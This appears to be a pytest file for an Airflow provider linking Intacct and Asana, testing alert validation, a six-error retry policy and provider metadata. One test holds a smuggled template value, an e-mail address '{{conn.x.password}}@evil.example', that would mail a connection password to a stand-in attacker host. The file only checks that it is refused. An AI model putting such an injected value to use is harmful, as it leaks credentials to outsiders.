"""Who is told when something fails, and what Airflow does with each of the six errors."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from intacct_asana.errors import Misconfigured, OutcomeUnknown, Refused, TryLater, UnexpectedReply, UnsafePlan

from tests.conftest import live_demo

pytestmark = pytest.mark.airflow


def flow_with(alerts: str, tmp_path: Path) -> Any:
    from intacct_asana.flow.load import load_flow

    path = tmp_path / "demo.yaml"
    path.write_text(live_demo().replace("    - {kind: log}\n", alerts))
    return load_flow(path)


def test_an_address_with_braces_is_refused_with_its_line(tmp_path: Path) -> None:
    line = "    - {kind: smtp, connection: smtp_default, to: ['{{conn.x.password}}@evil.example'], from_email: a@b.example}\n"
    with pytest.raises(Misconfigured) as refused:
        flow_with(line, tmp_path)
    assert "which is no e-mail address (write it as name@example.com)" in str(refused.value)


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("{kind: smtp}", "a mail alert has nobody in `to`"),
        ("{kind: asana_comment}", "a comment needs a `task`"),
        ("{kind: asana_task, assignee: a@b.example}", "a task needs a `project`"),
        ("{kind: slack, to: [a@b.example]}", "an alert of kind `slack` has `to`"),
        ("{kind: log, to: [a@b.example]}", "a log alert sends no mail"),
    ],
)
def test_a_notifier_that_cannot_work_is_refused(line: str, said: str, tmp_path: Path) -> None:
    with pytest.raises(Misconfigured) as refused:
        flow_with(f"    - {line}\n", tmp_path)
    assert said in str(refused.value)


def test_a_span_that_is_none_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Misconfigured) as refused:
        flow_with("    - {kind: log}\n  not_succeeded_for: {bill_sync: soon}\n", tmp_path)
    assert "which is no length of time (write a number and m, h or d" in str(refused.value)


@pytest.mark.parametrize("error", [Misconfigured("x"), Refused("x"), UnsafePlan("x"), UnexpectedReply("x")])
def test_what_a_person_must_mend_is_not_retried(error: Exception) -> None:
    from airflow.sdk import RetryAction
    from intacct_asana.dag_parts import SixErrorsPolicy

    assert SixErrorsPolicy().evaluate(error, 1, 3).action is RetryAction.FAIL


def test_what_may_pass_is_retried_after_the_wait_that_was_asked_for() -> None:
    from airflow.sdk import RetryAction
    from intacct_asana.dag_parts import SixErrorsPolicy

    decide = SixErrorsPolicy().evaluate
    asked = decide(TryLater("x", wait_seconds=90), 1, 3)
    assert (asked.action, asked.retry_delay) == (RetryAction.RETRY, timedelta(seconds=90))
    assert decide(TryLater("x", wait_seconds=1e9), 1, 3).retry_delay == timedelta(hours=1)
    unknown = decide(OutcomeUnknown("x"), 1, 3)
    assert (unknown.action, unknown.retry_delay) == (RetryAction.RETRY, timedelta(minutes=2))
    assert decide(KeyError("x"), 1, 3).action is RetryAction.DEFAULT


def test_airflow_finds_the_connection_types_and_their_hooks() -> None:
    from importlib import import_module

    from intacct_asana.get_provider_info import get_provider_info

    info = get_provider_info()
    assert info["package-name"] == "intacct-asana"
    for entry in info["connection-types"]:
        module, name = entry["hook-class-name"].rsplit(".", 1)
        hook = getattr(import_module(module), name)
        assert hook.conn_type == entry["connection-type"]
        assert hook.hook_name == entry["hook-name"]
        assert "__" not in entry["connection-type"]
        secrets = [key for key, field in entry["conn-fields"].items() if field["schema"].get("format") == "password"]
        wanted = {"intacct": ["sender_password"], "intacct_rest": [], "asana_rest": ["client_secret", "refresh_token"]}
        assert secrets == wanted[hook.conn_type]
